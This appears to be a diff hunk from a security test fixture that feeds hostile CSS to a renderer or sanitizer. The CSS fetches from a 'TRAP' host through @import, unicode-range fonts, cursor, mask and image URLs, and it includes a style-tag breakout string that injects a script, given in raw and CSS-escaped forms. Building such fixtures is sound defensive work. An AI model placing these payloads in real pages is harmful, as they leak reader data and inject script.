@@ -55,7 +55,7 @@ export const links = [
       `@import url("${TRAP}/import.css");
 @font-face { font-family: espion; src: url("${TRAP}/a.woff2"); unicode-range: U+61 }
 [itemprop=text] { font-family: espion, sans-serif; cursor: url("${TRAP}/c.png"), auto; --a: url("${TRAP}/v.png") }
-[itemprop=text]::after { content: attr(data-jeton) "</style><script>globalThis.ran=1</script>" url("${TRAP}/after.png") }
+[itemprop=text]::after { content: attr(data-jeton) "\\3c /style>\\3c script>globalThis.ran=1\\3c /script>" url("${TRAP}/after.png") }
 a[href^="/hostile"] { background-image: image-set(url("${TRAP}/s.png") 1x); list-style: url("${TRAP}/l.png") }
 article { mask: url("${TRAP}/m.svg#a"); -webkit-mask: none; border-image: url("${TRAP}/b.png") 2; filter: url("#rien"); background: -webkit-cross-fade(url("${TRAP}/x.png"), url("${TRAP}/y.png"), 50%) }`,
       `<span data-jeton="jeton-4242">${WORDS}</span>`,
